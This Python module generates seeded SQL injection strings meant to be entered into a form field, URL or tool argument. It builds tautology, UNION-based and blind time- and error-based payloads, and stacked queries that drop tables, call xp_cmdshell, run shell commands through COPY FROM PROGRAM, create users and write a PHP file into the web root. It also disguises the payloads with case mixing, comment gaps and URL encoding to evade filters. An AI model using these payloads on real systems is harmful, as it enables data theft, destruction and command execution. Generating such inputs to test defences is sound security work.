"""Texts of SQL injection, drawn from a seed: what is put into one field of a form, a URL or a tool's argument."""

from __future__ import annotations

import random
from collections.abc import Iterator
from urllib.parse import quote

__all__ = ["attacks"]

_COLUMNS = "id name login email pass password_hash token role card_no balance created_at is_admin".split()
_TABLES = "users accounts customers admin_users orders payments sessions members wp_users api_keys employees".split()
_FUNCTIONS = "version() database() user() current_user @@version @@datadir session_user() schema()".split()
_VALUES = ("1", "-1", "0", "7", "42", "-9999", "1.5", "0x1f", "null", "ann", "admin", "x", "", "test@example.com", "O")
_ENDS = ("--", "-- ", "-- -", "--+", "#", "/*", ";--", " -- x", "", "", "")


def _number(rng: random.Random) -> str:
    return str(rng.choice((rng.randrange(10), rng.randrange(1000), rng.randrange(10_000))))


def _tautology(rng: random.Random, quoted: str) -> str:
    number, word = _number(rng), "".join(rng.choices("abcdefgxyzQWRT", k=rng.randrange(1, 5)))
    forms = [
        f"{number}={number}",
        f"{number} = {number}",
        f"({number})=({number})",
        f"{number} like {number}",
        f"not {number}={int(number) + 1}",
        f"{number}<>{int(number) + 1}",
        "2>1",
        "true",
        f"{number}",
        f"{number} between 0 and 99999",
        f"{rng.choice(_COLUMNS)} is not null",
        f"exists(select 1 from {rng.choice(_TABLES)})",
        f"{number} in ({number},5)",
        f"length(database())>{number}",
        f"{number}+1={int(number) + 1}",
    ]
    if quoted:
        forms += [
            f"{quoted}{word}{quoted}={quoted}{word}",
            f"{quoted}{word}{quoted} like {quoted}{word}",
            f"{quoted}{quoted}={quoted}",
        ]
        forms += [f"{rng.choice(_COLUMNS)} like {quoted}%", f"{quoted}{word}{quoted}<>{quoted}y"]
    return rng.choice(forms)


def _columns(rng: random.Random) -> str:
    count = rng.randrange(1, 9)
    kind = rng.randrange(4)
    if kind == 0:
        return ",".join(["null"] * count)
    if kind == 1:
        return ",".join(str(n) for n in range(1, count + 1))
    if kind == 2:
        return ",".join(rng.sample(_COLUMNS, min(count, 4)))
    return ",".join(
        [
            *(str(n) for n in range(1, count + 1)),
            rng.choice((*_FUNCTIONS, "group_concat(table_name)", "concat(login,0x3a,pass)")),
        ]
    )


def _union(rng: random.Random) -> str:
    sources = [
        rng.choice(_TABLES),
        rng.choice(_TABLES),
        "information_schema.tables",
        "mysql.user",
        "dual",
        "pg_catalog.pg_tables",
        "sqlite_master",
        "",
    ]
    source = rng.choice(sources)
    columns = _columns(rng)
    if not source and columns[0].isalpha() and columns[0] != "n":
        source = "users"
    return f"union {rng.choice(('', '', 'all ', 'distinct '))}select {columns}" + (f" from {source}" if source else "")


def _stacked(rng: random.Random) -> str:
    table, column = rng.choice(_TABLES), rng.choice(_COLUMNS)
    return "; " + rng.choice(
        (
            f"drop table {table}",
            f"delete from {table}",
            f"update {table} set {column}=1",
            f"insert into {table} values (1,2)",
            f"truncate table {table}",
            "shutdown",
            "waitfor delay '0:0:5'",
            "exec master..xp_cmdshell 'whoami'",
            f"select pg_sleep({_number(rng)})",
            "declare @q varchar(99) set @q=0x61 exec(@q)",
            f"copy {table} from program 'id'",
            f"alter table {table} drop column {column}",
            "create user eve with password 'x'",
            f"grant all on {table} to public",
        )
    )


def _blind(rng: random.Random) -> str:
    word = rng.choice(("and", "or", "&&", "||", "xor"))
    column, table = rng.choice(_COLUMNS), rng.choice(_TABLES)
    return f"{word} " + rng.choice(
        (
            f"ascii(substr((select {column} from {table} limit 1),1,1))>64",
            "sleep(5)",
            "(select 1 from (select(sleep(5)))a)",
            f"(select count(*) from {table})>0",
            "substring(version(),1,1)=5",
            "benchmark(5000000,md5(1))",
            "if(1=1,sleep(5),0)",
            f"extractvalue(1,concat(0x7e,(select {column} from {table})))",
            "updatexml(1,concat(0x7e,version()),1)",
            "1=convert(int,@@version)",
            f"{_number(rng)}=(select {_number(rng)} from pg_sleep(5))",
            "(select case when (1=1) then 1 else 1/0 end)=1",
            f"(select 8 from(select count(*),concat(0x71,floor(rand(0)*2))x from {table} group by x)a)",
            "length(user())=8",
            "1=cast(version() as int)",
            f"exists(select {column} from {table} where {column} like 'a%')",
            "ord(mid(user(),1,1))>100",
            "row(1,1)>(select count(*),1)",
        )
    )


def _order(rng: random.Random) -> str:
    return rng.choice(("order by", "group by")) + f" {rng.randrange(1, 30)}"


def _out(rng: random.Random) -> str:
    return f"union select 1,'<?php ?>' into {rng.choice(('outfile', 'dumpfile'))} '/var/www/{rng.choice('abc')}.php'"


def _payload(rng: random.Random) -> tuple[str, str]:
    mark = rng.choice(("'", "'", "'", '"', "", ""))
    closing = mark + ")" * rng.choice((0, 0, 0, 1, 2))
    kind = rng.choices(("taut", "union", "stacked", "blind", "order", "out", "comment"), (8, 8, 4, 8, 2, 1, 1))[0]
    value = rng.choice(_VALUES if mark else _VALUES[:8])
    end = rng.choice(_ENDS)
    if kind == "taut":
        body = f"{rng.choice(('or', 'and', 'or', '||', '&&', 'xor', 'having'))} {_tautology(rng, mark)}"
        if mark and not body.endswith(("1", "5", ")", "l", "e", "9")) and body.count(mark) % 2:
            end = ""
        elif mark and not end:
            end = "-- -"
    elif kind == "comment":
        body, end, mark, closing = "", rng.choice(("--", "-- -", "#", "/*")), "'", "'"
    else:
        body = {"union": _union, "stacked": _stacked, "blind": _blind, "order": _order, "out": _out}[kind](rng)
        if kind == "order" or (mark and not end):
            end = "-- -"
    gap = "" if kind == "stacked" else " "
    return f"{value}{closing}{gap}{body}", end


def _mixed_case(rng: random.Random, text: str) -> str:
    return "".join(c.upper() if rng.random() < 0.5 else c for c in text)


def _gaps(rng: random.Random, text: str) -> str:
    gap = rng.choice(("/**/", "/**/", "\t", "\n", "  ", "%20", "+", "%0a", "/*x*/", "\r\n", "%09", "/*!*/"))
    return text.replace(" ", gap)


def _encoded(_rng: random.Random, text: str) -> str:
    return quote(text)


def _upper(_rng: random.Random, text: str) -> str:
    return text.upper()


def _same(_rng: random.Random, text: str) -> str:
    return text


def attacks(seed: int, count: int) -> Iterator[str]:
    """`count` texts, each of them an attack."""
    rng = random.Random(seed)
    disguises = (_same, _same, _same, _upper, _mixed_case, _gaps, _encoded)
    for _ in range(count):
        body, end = _payload(rng)
        disguise = rng.choice(disguises)
        yield disguise(rng, body + end) if disguise is _encoded else disguise(rng, body) + end
